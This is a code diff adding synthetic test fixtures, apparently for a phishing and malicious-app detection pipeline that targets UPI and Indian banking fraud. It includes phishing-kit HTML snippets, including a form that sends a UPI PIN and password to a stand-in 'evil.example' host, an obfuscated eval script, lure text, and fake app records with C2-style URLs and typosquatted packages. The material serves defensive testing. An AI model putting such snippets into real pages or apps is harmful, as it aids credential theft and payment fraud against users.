@@ -67,3 +67,50 @@ def sql(spark: SparkSession, sf_dir: str, text: str) -> DataFrame:
             own.read.parquet(f"{sf_dir}/{name}.parquet").createOrReplaceTempView(name)
     df = own.sql(text.replace("VARCHAR(12)", "STRING"))
     return DataFrame(df._jdf, spark)
+
+#: What kits add to a page; no single quotes or backslashes, which the engines read differently.
+KITS = [
+    "",
+    '<form action="https://collect.evil.example/post" method=POST><input name="upi_pin" type="text"><input type="password" name=pwd></form>',
+    '<form action="/login"><input name="user" placeholder="Enter OTP &amp; go"><input name="shipping"></form>',
+    '<script>eval(atob("YWJj"));document.write("x")</script>',
+    '<a href="/files/pay.apk">app</a><a href="https://cdn.example.net/x.apk?v=1">more</a><a href="files/z.apk">z</a>',
+    "<p>Please verify your account. Your account will be  blocked today. Enter your UPI PIN</p>",
+    "<title>PhonePe UPI secure payment</title><p>phonepe upi pay wallet payment secure money transaction</p>",
+    '<script src="https://www.googletagmanager.com/gtag/js?id=G-ABCDEF1234"></script><script>ga("create", "UA-123456-7"); x = "G-ABCDEF1234"</script> G-NOTINCODE1',
+    "<title>Just a moment...</title><p>checking your browser</p>",
+    '<form action="//other.example.org/x"><input name=email></form><link rel="shortcut icon" href="/fav.ico"><form action="mailto:a@b.c"></form>',
+    '<form><input name="cvv"></form> Enter your card number &lt;now&gt;',
+    '<script>var b="' + "QUJD" * 40 + '"</script><form action="x"><input name="atm">',
+]
+CAPTURES = f"""SELECT p.page_id, replace(u.url, '{{n}}', CAST(p.page_id % 900 + 100 AS VARCHAR(12))) AS url, p.html || t.html AS html
+    FROM pages p JOIN (VALUES {_values(URLS)}) u(k, url) ON p.page_id % {len(URLS)} = u.k JOIN (VALUES {_values(KITS)}) t(k, html) ON CAST(floor(p.page_id / 3) AS BIGINT) % {len(KITS)} = t.k"""
+
+#: Package, label, permissions by their numbers, strings, whether there's a launcher.
+APPS = [
+    ("com.phonepe.app", "PhonePe", "0", "https://www.phonepe.com/help", "1"),
+    ("com.fake.phonepe", "PhonePe Rewards", "0,3", "https://c2.evil{n}.top/x|pay sbi.kyc{n}@okaxis now", "1"),
+    ("org.game.tower", "Tower", "", "https://schemas.android.com/apk|https://www.googleapis.com/a", "1"),
+    ("com.hdfcbank.payzapp", "PayZapp", "4,6", "", "1"),
+    ("com.secure.update", "Paytn Update", "1,5,7,8", "1234567890:AAabcdefghijklmnopqrstuvwxyz0123456789|https://t.me/gang_{n}", "0"),
+    ("in.kyc.icici{n}", "Bank KYC", "2,9,10,11", "call 98765432{n}|x 9876500000 y|+91 9123456{n}0", "1"),
+    ("com.notes", "Notes", "8", "t.me/Notes_Help|http://cdn.notes{n}.io/a|http://cdn.notes{n}.io/b", "1"),
+    ("com.axisbnak.help", "Help", "0,1", "https://paytm.com/x", "1"),
+]
+_APP_ROWS = ", ".join("({}, {})".format(i, ", ".join(f"'{x}'" for x in r)) for i, r in enumerate(APPS))
+APP_ROWS = f"""SELECT e.event_id, md5(CAST(e.event_id AS VARCHAR(12))) AS sha256, replace(t.package, '{{n}}', CAST(e.user_id + 100 AS VARCHAR(12))) AS package, t.label, t.permits, replace(t.strings, '{{n}}', CAST(e.user_id + 100 AS VARCHAR(12))) AS strings,
+    t.launcher = '1' AS has_launcher, CASE WHEN e.event_id % 3 = 0 THEN NULL ELSE 'cert' || CAST(e.user_id % 5 AS VARCHAR(12)) END AS cert, CASE WHEN e.event_id % 4 = 0 THEN 'http://dl' || CAST(e.user_id AS VARCHAR(12)) || '.example.org/a.apk' END AS origin_url
+    FROM events e JOIN (VALUES {_APP_ROWS}) t(k, package, label, permits, strings, launcher) ON e.event_id % {len(APPS)} = t.k"""
+
+#: Assets as casework has them.
+CASE_ASSETS = f"""SELECT id, CASE WHEN id % 6 = 0 THEN NULL ELSE 'camp-' || CAST(user_id % 40 AS VARCHAR(12)) END AS campaign, kind, review, verdict, points, brand, first_seen, last_seen, source,
+    CASE WHEN id % 97 = 0 THEN '203.0.113.' || CAST(user_id % 200 AS VARCHAR(12)) ELSE domain END AS domain, 'https://' || domain || '/p' || CAST(id % 7 AS VARCHAR(12)) AS url,
+    CASE WHEN id % 4 = 0 THEN NULL ELSE 'Registrar ' || CAST(user_id % 9 AS VARCHAR(12)) END AS registrar, CASE WHEN id % 4 = 1 THEN 'abuse@r' || CAST(user_id % 9 AS VARCHAR(12)) || '.example' END AS registrar_contact,
+    CASE WHEN id % 5 < 3 THEN 'AS' || CAST(user_id % 20 AS VARCHAR(12)) END AS asn, CASE WHEN id % 5 < 2 THEN 'Net ' || CAST(user_id % 20 AS VARCHAR(12)) END AS as_name, 'abuse@net' || CAST(user_id % 20 AS VARCHAR(12)) || '.example' AS host_contact,
+    'com.app' || CAST(user_id AS VARCHAR(12)) AS package, md5(CAST(id AS VARCHAR(12))) AS sha256, 'App ' || CAST(user_id AS VARCHAR(12)) AS label, 'Pay|now ' || CAST(id AS VARCHAR(12)) AS excerpt, CASE WHEN id % 3 > 0 THEN 'punycode; ip_host' END AS reasons, user_id
+    FROM ({ASSETS}) z"""
+
+
+def with_case_assets(tail: str) -> str:
+    """SQL with a, the assets of casework, and e, their entities."""
+    return f"WITH a AS ({CASE_ASSETS}), e AS ({ENTITIES}) {tail}"
